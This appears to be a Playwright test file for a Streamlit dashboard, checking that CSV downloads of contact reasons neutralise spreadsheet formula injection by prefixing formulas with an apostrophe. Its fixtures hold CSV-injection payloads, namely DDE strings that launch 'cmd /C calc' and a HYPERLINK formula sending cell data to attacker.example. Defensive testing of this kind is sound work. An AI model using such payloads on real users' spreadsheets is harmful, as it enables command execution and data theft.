"""Every CSV safe, the table's own toolbar included, in a real browser.

A server of its own over a database holding contact reasons that are spreadsheet formulas. The
Contact reasons page shows them exactly as stored; the table's toolbar offers no download (its
CSV would keep the formulas: client.disableDataExport); the app's own download beside the table
gives a file where each formula starts with an apostrophe (exports.safe_csv).
"""

from __future__ import annotations

import csv
import io
import os

import pytest

try:
    from playwright.sync_api import expect
except ImportError:
    if os.environ.get("CI"):
        raise  # CI must have it: requirements-dev.txt pins it
    pytest.skip("the playwright Python package is not installed (pip install -r requirements-dev.txt)",
                allow_module_level=True)

from cxmetrics import cli

from .conftest import streamlit_server

LOAD_MS = 90_000
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://attacker.example/x?d="&A1,"Click to re-authenticate")'
MINUS = "-2+3+cmd|' /C calc'!A0"
PLAIN = "Billing"
REASONS = (AT_SUM, HYPERLINK, MINUS, PLAIN)


@pytest.fixture(scope="module")
def hostile_url(chromium_path, tmp_path_factory):
    """A dashboard over contacts whose reasons are formulas (no sample data: the database is not empty)."""
    workdir = tmp_path_factory.mktemp("safe_exports_app")
    source = workdir / "contacts.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["contact_id", "customer_id", "started_at", "channel", "contact_reason", "resolved"])
        for number in range(40):
            writer.writerow([f"K{number:03d}", f"C{number % 9:02d}", f"2025-11-{1 + number % 20:02d} 09:00:00",
                             "phone", REASONS[number % len(REASONS)], "true"])
    assert cli.main(["import", "contacts", str(source), "--db", str(workdir / "cx.duckdb")]) == 0
    with streamlit_server(workdir) as base:
        yield base


def test_the_table_shows_formulas_as_stored_offers_no_toolbar_download_and_the_app_download_is_safe(
        page, hostile_url, screenshots):
    page.goto(hostile_url + "/contact_reasons")
    expect(page.get_by_role("heading", name="Contact reasons", exact=True)).to_be_visible(timeout=LOAD_MS)
    grid = page.locator(".st-key-tbl_reasons [data-testid='stDataFrame']")
    expect(grid).to_be_visible(timeout=LOAD_MS)

    # Shown as stored: the grid's cells (its accessible copy of the canvas) hold the raw values.
    expect(grid.locator("td").first).to_be_attached()
    assert set(REASONS) <= set(grid.locator("td").all_inner_texts())

    # The toolbar appears on hover; it has its other actions, but no download.
    grid.hover()
    toolbar = page.locator(".st-key-tbl_reasons [data-testid='stElementToolbar']")
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
    expect(toolbar.get_by_role("button", name="Download as CSV")).to_have_count(0)
    page.screenshot(path=str(screenshots / "safe_exports_toolbar.png"))

    # The app's own download of the same table.
    with page.expect_download() as started:
        page.locator(".st-key-dl_reasons button").click()
    text = open(started.value.path(), encoding="utf-8-sig").read()
    rows = list(csv.DictReader(io.StringIO(text)))
    written = {row["Contact reason"] for row in rows}
    assert written == {"'" + AT_SUM, "'" + HYPERLINK, "'" + MINUS, PLAIN}
